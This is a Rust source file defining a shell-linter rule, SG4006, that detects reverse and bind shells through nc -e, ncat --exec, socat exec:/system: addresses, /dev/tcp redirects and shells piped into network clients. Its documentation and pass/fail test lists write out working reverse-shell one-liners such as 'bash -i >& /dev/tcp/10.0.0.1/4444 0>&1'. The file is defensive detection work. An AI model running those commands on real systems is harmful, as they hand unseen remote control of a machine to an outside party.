//! SG4006: reverse and bind shells (`nc -e`, `socat exec:`, `bash -i >& /dev/tcp/..`).

use std::collections::BTreeSet;

use crate::declare_rule;
use crate::graph::{FlowEdge, FlowNode};
use crate::model::opts::value_word;
use crate::model::{Command, RedirectOp, is_shell};
use crate::rules::util::route;
use crate::rules::{Cx, Finding, Rule};

declare_rule! {
    /// ## What it does
    /// Flags commands that hand a shell or program to a network peer: `nc`/`netcat` with
    /// `-e`/`-c`, `ncat --exec`/`--sh-exec`/`--lua-exec`, `socat` with an `exec:` or
    /// `system:` address, a shell or interpreter whose input or output is redirected to
    /// `/dev/tcp/..` or `/dev/udp/..` (`bash -i >& /dev/tcp/h/4444 0>&1`), `exec 3<>/dev/tcp/..`,
    /// and a shell whose output is piped into a network client (`sh -i 2>&1 | nc h 4444`).
    ///
    /// ## Why is this bad?
    /// Whoever is on the other end gets to run commands on this machine, unseen.
    ///
    /// ## Example
    /// ```sh
    /// nc -e /bin/sh 10.0.0.1 4444   # approve
    /// nc -zv host 22                # allow: a port check
    /// ```
    ///
    /// ## Known limitations
    /// A listener started here and used later by another command is not connected to it.
    pub struct ReverseShell;
    code: "SG4006",
    name: "reverse-shell",
    severity: Approve,
    category: RemoteCode,
    hermes: [],
    programs: [],
    summary: "A shell is handed to a network peer (reverse or bind shell)",
    pass: ["nc -zv host 22", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "timeout 1 bash -c '</dev/tcp/host/22'", "ncat -l 8080", "nc -lvnp 4444", "nc -w 5 -p 1234 h 80"],
    fail: ["nc -e /bin/sh 10.0.0.1 4444", "ncat --sh-exec 'bash' -l 4444", "socat TCP:h:4444 EXEC:/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh -i 2>&1 | nc h 4444", "exec 5<>/dev/tcp/h/80", "netcat -c bash h 4444", "socat tcp-l:4444 system:sh", "nc -lvp 4444 -e /bin/bash", "nc -nve/bin/sh h 4444"],
}

fn dev_net(t: &str) -> bool {
    t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/")
}

fn hands_over(cmd: &Command) -> Option<String> {
    let name = cmd.name.as_deref();
    match name {
        Some("nc" | "netcat" | "ncat" | "nc.traditional" | "nc.openbsd" | "busybox-nc") => {
            // `-e PROG`, `-c CMD`, `--exec=PROG`, as nc's grammar reads them: in a bundle
            // (`-ve sh`), attached (`-e/bin/sh`); `-p 4444` is a port.
            let x = cmd
                .opts
                .named(&["e", "c", "exec", "sh-exec", "lua-exec"])
                .next()?;
            let a = cmd
                .args()
                .get(x.word)
                .map(|w| w.shown())
                .unwrap_or_default();
            let prog = value_word(cmd.args(), x).map(|w| w.shown());
            Some(format!(
                "{} {a} hands `{}` to the network peer",
                name.unwrap_or("nc"),
                prog.unwrap_or_default()
            ))
        }
        Some("socat") => cmd
            .arg_texts()
            .into_iter()
            .find(|a| {
                let l = a.to_ascii_lowercase();
                l.starts_with("exec:")
                    || l.starts_with("system:")
                    || l.contains(",exec:")
                    || l.starts_with("exec,")
                    || l.contains("!!exec:")
                    || l.contains("!!system:")
            })
            .map(|a| format!("socat address `{a}` runs a program for the network peer")),
        _ => {
            let net = cmd
                .redirects
                .iter()
                .find(|r| r.target.as_ref().is_some_and(|t| dev_net(&t.shown())))?;
            let target = net.target.as_ref().map(|t| t.shown()).unwrap_or_default();
            let runs_code = name.is_some_and(|n| is_shell(n) || crate::graph::is_interpreter(n));
            let bare_exec = (cmd.argv.is_empty() || (cmd.is("exec") && cmd.argv.len() == 1))
                && (cmd.has_wrapper("exec") || cmd.is("exec") || net.op == RedirectOp::ReadWrite);
            let both_ways = cmd.redirects.iter().any(|r| r.op == RedirectOp::DupFd)
                && (net.op.writes() || net.op == RedirectOp::Read);
            let interactive = runs_code && (net.op.writes() || both_ways);
            (interactive || bare_exec || (runs_code && net.op == RedirectOp::Read && both_ways))
                .then(|| format!("`{}` is connected to {target}", name.unwrap_or("exec")))
        }
    }
}

impl Rule for ReverseShell {
    fn check_script(&self, cx: &Cx, out: &mut Vec<Finding>) {
        let mut flagged = BTreeSet::new();
        for cmd in &cx.script.commands {
            if let Some(msg) = hands_over(cmd) {
                flagged.insert(cmd.id);
                out.push(Finding::on(
                    &Self::META,
                    cmd,
                    format!("{msg}{}", route(cmd)),
                ));
            }
        }
        // A shell that runs its stdin and whose output is piped into a network client.
        for cmd in &cx.script.commands {
            if flagged.contains(&cmd.id) {
                continue;
            }
            let Some(inputs) = crate::graph::sink_inputs(cmd) else {
                continue;
            };
            if !inputs.stdin || !cmd.name.as_deref().is_some_and(is_shell) {
                continue;
            }
            let Some(&me) = cx.flow.cmd_nodes.get(&cmd.id) else {
                continue;
            };
            let to_net = cx.flow.graph.edges(me).find(|e| {
                use petgraph::visit::EdgeRef;
                *e.weight() == FlowEdge::Pipe
                    && (matches!(cx.flow.graph[e.target()], FlowNode::Network { .. })
                        || cx
                            .flow
                            .node_cmd(e.target())
                            .and_then(|c| cx.script.command(c))
                            .is_some_and(|c| c.is("telnet")))
            });
            if let Some(e) = to_net {
                use petgraph::visit::EdgeRef;
                let path = vec![(me, Some(FlowEdge::Pipe)), (e.target(), None)];
                out.push(
                    Finding::on(
                        &Self::META,
                        cmd,
                        format!(
                            "the output of an interactive `{}` is sent to a network client{}",
                            cmd.name.clone().unwrap_or_default(),
                            route(cmd)
                        ),
                    )
                    .with_evidence(cx.flow.describe(cx.script, &path)),
                );
            }
        }
    }
}
